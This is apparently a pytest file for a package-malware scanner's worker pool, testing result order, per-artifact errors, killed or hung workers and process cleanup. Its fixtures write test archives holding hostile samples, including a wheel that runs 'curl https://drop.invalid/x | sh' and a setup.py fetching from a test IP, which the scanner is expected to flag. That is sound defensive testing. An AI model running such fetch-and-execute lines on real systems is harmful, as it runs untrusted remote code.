"""The pool over artifacts: order, errors as values, and a worker that is killed."""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from scanner.code.analysis import Analysis
from scanner.code.artifacts import Job, analyse_job
from scanner.code.limits import Limits
from scanner.code.pool import Analyse, analyse_artifacts
from scanner.model.finding import PackageRef


def wheel(path: Path, code: str) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("example/__init__.py", code)
    return path


def test_results_come_in_order_and_a_broken_archive_costs_only_itself(tmp_path: Path) -> None:
    good = wheel(tmp_path / "a-1-py3-none-any.whl", "X = 1\n")
    broken = tmp_path / "b-1-py3-none-any.whl"
    broken.write_bytes(b"PK\x03\x04 nothing of use")
    bad = wheel(tmp_path / "c-1-py3-none-any.whl", "import os\nos.system('curl https://drop.invalid/x | sh')\n")
    sdist = tmp_path / "d-1.tar.gz"
    with tarfile.open(sdist, "w:gz") as archive:
        data = b"import urllib.request\nurllib.request.urlopen('http://198.18.0.7/x')\n"
        info = tarfile.TarInfo("d-1/setup.py")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    jobs = [Job(str(path), path.name, PackageRef(path.name[0], "1")) for path in (good, broken, bad, sdist)]
    progress: list[tuple[int, int]] = []
    results = list(analyse_artifacts(jobs, 2, lambda done, total: progress.append((done, total))))
    assert [job for job, _ in results] == jobs
    assert [analysis.verdict for _, analysis in results] == ["clean", "error", "malicious", "suspicious"]
    assert progress == [(1, 4), (2, 4), (3, 4), (4, 4)]
    assert "readable archive" in results[1][1].error


def test_a_fault_of_the_engine_is_the_error_of_one_artifact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object, **__: object) -> Analysis:
        raise KeyError("no such thing")

    monkeypatch.setattr("scanner.code.artifacts.analyse", fails)
    path = wheel(tmp_path / "example-1.0-py3-none-any.whl", "value = 1\n")
    found = analyse_job(Job(str(path), path.name, PackageRef("example", "1.0")))
    assert found.verdict == "error"
    assert "example-1.0" in found.error
    assert "KeyError" in found.error
    assert "report the fault" in found.error


def test_one_process_gives_the_same_as_two(tmp_path: Path) -> None:
    paths = [wheel(tmp_path / f"p{n}-1-py3-none-any.whl", f"import os\nos.system('echo {n}')\n") for n in range(3)]
    jobs = [Job(str(path), path.name, PackageRef(path.name[:2], "1")) for path in paths]
    alone = [(one.verdict, one.findings, one.capabilities) for _, one in analyse_artifacts(jobs, 1)]
    together = [(one.verdict, one.findings, one.capabilities) for _, one in analyse_artifacts(jobs, 2)]
    assert alone == together


def dies(job: Job, limits: Limits | None) -> Analysis:
    """What an analysis does whose process the system ends."""
    if job.filename.startswith("b-"):
        os.kill(os.getpid(), signal.SIGKILL)
    return analyse_job(job, limits)


def spins(job: Job, limits: Limits | None) -> Analysis:
    """An analysis that never comes back."""
    while job.filename.startswith("b-"):
        pass
    return analyse_job(job, limits)


def sleeps(job: Job, limits: Limits | None) -> Analysis:
    """An analysis that is still under way when its result is no longer wanted."""
    if job.filename.startswith("b-"):
        time.sleep(600)
    return analyse_job(job, limits)


def three(folder: Path) -> list[Job]:
    paths = [wheel(folder / f"{name}-1-py3-none-any.whl", "X = 1\n") for name in "abc"]
    return [Job(str(path), path.name, PackageRef(path.name[0], "1")) for path in paths]


def descendants() -> set[int]:
    """Processes below this one, by /proc."""
    parents = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text(encoding="latin-1").rpartition(")")[2].split()
            except OSError:
                continue
            if stat[0] != "Z":
                parents[int(entry.name)] = int(stat[1])
    found = {os.getpid()}
    while new := {pid for pid, parent in parents.items() if parent in found} - found:
        found |= new
    return found - {os.getpid()}


def workers_left(seconds: float = 5.0) -> set[int]:
    """Workers still there after a while: all but the fork server and the resource tracker, which end with us."""
    deadline = time.monotonic() + seconds
    left: set[int] = set()
    while time.monotonic() < deadline:
        left = set()
        for pid in descendants():
            try:
                command = (Path("/proc") / str(pid) / "cmdline").read_bytes()
                parent = (Path("/proc") / str(pid) / "stat").read_text(encoding="latin-1").rpartition(")")[2].split()[1]
            except OSError:
                continue
            if b"forkserver" in command and int(parent) != os.getpid():
                left.add(pid)
        if not left:
            break
        time.sleep(0.05)
    return left


@pytest.mark.parametrize("analyse", [dies, spins])
def test_a_worker_that_is_ended_costs_its_own_artifact_only(tmp_path: Path, analyse: Analyse) -> None:
    limits = Limits(max_artifact_seconds=0.5)
    results = list(analyse_artifacts(three(tmp_path), 2, limits=limits, analyse=analyse))
    assert [one.verdict for _, one in results] == ["clean", "error", "clean"]
    assert "ended by the system" in results[1][1].error
    assert not workers_left()


def test_an_artifact_alone_is_analysed_under_the_same_ceilings(tmp_path: Path) -> None:
    ((_, analysis),) = analyse_artifacts(three(tmp_path)[1:2], analyse=dies)
    assert "ended by the system" in analysis.error


def sinks(job: Job, limits: Limits | None) -> Analysis:
    raise RecursionError


def test_in_this_process_too_what_is_too_deep_costs_its_own_artifact_only(tmp_path: Path) -> None:
    results = list(analyse_artifacts(three(tmp_path), 1, analyse=sinks))
    assert [one.verdict for _, one in results] == ["error"] * 3


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="processes are counted through /proc")
@pytest.mark.parametrize("error", [RuntimeError, KeyboardInterrupt])
def test_the_processes_end_when_the_iteration_does(tmp_path: Path, error: type[BaseException]) -> None:
    def stop(done: int, total: int) -> None:
        raise error

    started = time.monotonic()
    with pytest.raises(error):
        list(analyse_artifacts(three(tmp_path), 2, stop, analyse=sleeps))
    assert time.monotonic() - started < 30
    assert not workers_left()


def test_an_interrupted_scan_leaves_no_process_behind(tmp_path: Path) -> None:
    slow = "x = 1\nimport os\nos.system('true')\n" + "for i in range(4000):\n    x = (x * 31 + i) % 1000003\n" * 60
    for number in range(40):
        wheel(tmp_path / f"p{number}-1-py3-none-any.whl", slow)
    command = [sys.executable, "-m", "scanner", "scan", "--workers", "2", str(tmp_path)]
    process = subprocess.Popen(command, start_new_session=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    time.sleep(2.0)
    before = descendants()
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=20)
    assert process.returncode in {0, 1, 3, 130}
    deadline = time.monotonic() + 5
    while (left := {pid for pid in before if (Path("/proc") / str(pid)).exists()} & _session(process.pid)) and (
        time.monotonic() < deadline
    ):
        time.sleep(0.05)
    assert not left


def _session(leader: int) -> set[int]:
    """Processes of the session that ``leader`` started."""
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text(encoding="latin-1").rpartition(")")[2].split()
            except OSError:
                continue
            if int(fields[3]) == leader and fields[0] != "Z":
                found.add(int(entry.name))
    return found
